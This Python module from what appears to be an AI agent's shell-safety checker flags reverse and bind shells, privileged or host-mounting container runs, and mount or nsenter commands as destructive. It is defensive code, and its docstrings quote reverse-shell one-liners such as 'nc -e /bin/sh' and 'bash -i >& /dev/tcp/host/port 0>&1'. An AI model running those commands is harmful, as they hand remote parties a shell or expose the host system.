"""Ways out of the project and the machine's bounds: reverse and bind shells, containers given the host's root,
and mounts.

`nc -e /bin/sh host 4444` hands a shell to whoever is at the other end; `docker run -v /:/host ...` gives a
container (root inside it) the whole host file system; `mount --bind` makes one directory show up in another.
None of these looks like a deletion, yet each one can lead to any deletion.
"""

from __future__ import annotations

import re

from mini_agent.safety.shell.commands import Redirect
from mini_agent.safety.shell.paths import Place, broad
from mini_agent.safety.shell.verdict import Verdict, destructive, ordinary
from mini_agent.safety.shell.words import Word

NETCATS = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"}
NETCAT_EXEC = re.compile(r"-[a-zA-Z]*[ec][a-zA-Z]*|--(exec|sh-exec|lua-exec)(=.*)?")
SOCAT_EXEC = re.compile(r"(^|[,!])\s*(exec|system)\s*:", re.IGNORECASE)
DEVICE_SOCKET = re.compile(r"/dev/(tcp|udp)/")
CONTAINER_TOOLS = {"docker", "podman", "nerdctl"}
CONTAINER_RUNS = {"run", "create", "exec"}
# `--flag value` or `--flag=value` settings that share the host's namespaces or devices with the container.
HOST_SETTINGS = {"--pid": "host", "--net": "host", "--network": "host", "--ipc": "host", "--uts": "host"}
HOST_SETTINGS |= {"--userns": "host", "--cgroupns": "host"}
CAPABILITIES = {"all", "sys_admin", "sys_ptrace", "sys_module", "dac_read_search"}
SOCKETS = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd")
MOUNTS = {
    "mount": "mounts a file system or binds a directory elsewhere",
    "umount": "unmounts a file system",
    "swapon": "changes swap devices",
    "swapoff": "changes swap devices",
    "losetup": "attaches files as block devices",
    "nsenter": "enters another process's namespaces (as in the host's root)",
    "chroot": "runs a command with another root directory",
}


def verdicts(name: str, arguments: tuple[Word, ...], place: Place) -> list[Verdict]:
    if name in NETCATS and any(NETCAT_EXEC.fullmatch(word.value or "") for word in arguments):
        return [destructive(f"{name} runs a program for a network peer (a reverse or bind shell)")]
    if name == "socat" and any(word.value is None or SOCAT_EXEC.search(word.value) for word in arguments):
        return [destructive("socat connects a network peer to a program (a reverse or bind shell)")]
    if name in CONTAINER_TOOLS:
        return _container(name, arguments, place)
    if name in MOUNTS:
        if name == "mount" and not arguments:
            return [ordinary("mount lists mounted file systems")]
        return [destructive(f"{name} {MOUNTS[name]}")]
    found = [word for word in arguments if word.value is not None and DEVICE_SOCKET.search(word.value)]
    return (
        [destructive(f"opens a network connection through {found[0].value} (a reverse shell's trick)")] if found else []
    )


def redirect_verdicts(redirects: tuple[Redirect, ...]) -> list[Verdict]:
    """`bash -i >& /dev/tcp/host/port 0>&1`: bash's own network sockets, the classic reverse shell."""
    for redirect in redirects:
        target = redirect.target
        if target is not None and DEVICE_SOCKET.search(target.value or target.text):
            return [destructive(f"redirects to a network socket ({target.shown}): a reverse shell's trick")]
    return []


def _container(name: str, arguments: tuple[Word, ...], place: Place) -> list[Verdict]:
    values = [word.value for word in arguments]
    subcommand = next((i for i, value in enumerate(values) if value in CONTAINER_RUNS), None)
    if subcommand is None:
        return []
    found: list[Verdict] = []
    options = arguments[subcommand + 1 :]
    for index, word in enumerate(options):
        value = word.value
        if value is None:
            found.append(ordinary(f"{name} is given an option built at run time ({word.text})"))
            continue
        if not value.startswith("-"):
            continue  # an option's value, the image or the container's command (read on, to be safe)
        flag, equals, attached = value.partition("=")
        following = options[index + 1].value if index + 1 < len(options) else None
        setting = attached if equals else (following or "")
        if flag == "--privileged":
            found.append(destructive(f"{name} --privileged gives the container the host's devices and powers"))
        elif HOST_SETTINGS.get(flag) == setting.lower():
            found.append(destructive(f"{name} {flag}=host shares the host's namespace with the container"))
        elif flag == "--cap-add" and setting.lower().removeprefix("cap_") in CAPABILITIES:
            found.append(destructive(f"{name} --cap-add={setting} gives the container the host's powers"))
        elif flag in ("-v", "--volume") or (flag.startswith("-v") and not flag.startswith("--")):
            source = (attached if equals else setting if flag in ("-v", "--volume") else flag[2:]).split(":")[0]
            found += _host_path(name, source, place)
        elif flag == "--mount":
            fields = dict(part.partition("=")[::2] for part in setting.split(","))
            found += _host_path(name, fields.get("source", fields.get("src", "")), place)
        elif flag == "--device":
            found.append(destructive(f"{name} --device gives the container a host device"))
    return found


def _host_path(name: str, source: str, place: Place) -> list[Verdict]:
    if not source or not source.startswith(("/", "~", ".")):
        return []  # a named volume
    word = Word(source, source)
    if source.startswith(SOCKETS) or broad(word, place):
        return [destructive(f"{name} mounts {source} of the host into the container (the host's root in reach)")]
    return []
